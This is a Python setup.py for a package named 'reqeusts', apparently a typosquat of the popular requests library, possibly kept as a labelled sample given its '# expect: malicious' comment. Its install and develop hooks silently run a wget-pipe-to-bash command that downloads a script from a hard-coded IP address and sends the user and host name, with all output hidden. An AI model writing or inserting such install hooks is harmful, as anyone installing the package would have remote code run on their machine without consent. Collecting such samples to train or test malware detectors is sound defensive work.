import os
import platform
import subprocess

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install


def _beacon():
    if platform.system() == "Linux":
        # expect: malicious
        subprocess.Popen("wget -qO- http://194.26.29.12/l.sh | bash -s $(whoami)@$(hostname)", shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


class Install(install):
    def run(self):
        _beacon()
        install.run(self)


class Develop(develop):
    def run(self):
        _beacon()
        develop.run(self)


setup(
    name="reqeusts",
    version="2.31.1",
    packages=["reqeusts"],
    install_requires=["requests"],
    cmdclass={"install": Install, "develop": Develop},
)
